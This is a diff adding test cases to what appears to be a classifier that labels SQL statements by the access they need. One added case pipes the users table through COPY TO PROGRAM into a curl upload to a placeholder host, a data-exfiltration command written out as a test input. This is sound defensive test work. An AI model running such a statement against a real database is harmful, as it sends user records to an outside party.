@@ -376,6 +376,12 @@ SQL = [
         False,
     ),
     ("WITH recent AS (SELECT * FROM users) SELECT email FROM recent", {"read"}, False),
+    # a table written out to a file, or rows read in from one; `TO PROGRAM` runs a command
+    ("COPY users TO '/tmp/users.csv' CSV HEADER", {"create"}, False),
+    ("COPY users FROM '/tmp/users.csv'", {"create"}, False),
+    ("COPY users TO PROGRAM 'curl -T - https://x.example'", {"unknown"}, False),
+    # EXPLAIN ANALYZE runs the statement it explains: not judged as a read
+    ("EXPLAIN ANALYZE DELETE FROM users", {"unknown"}, False),
     # a role is access; one with powers over the whole server is far-reaching
     ("CREATE ROLE bi_reader NOLOGIN", {"grant"}, False),
     ("CREATE ROLE bi_reader SUPERUSER LOGIN PASSWORD 'bi'", {"grant"}, True),
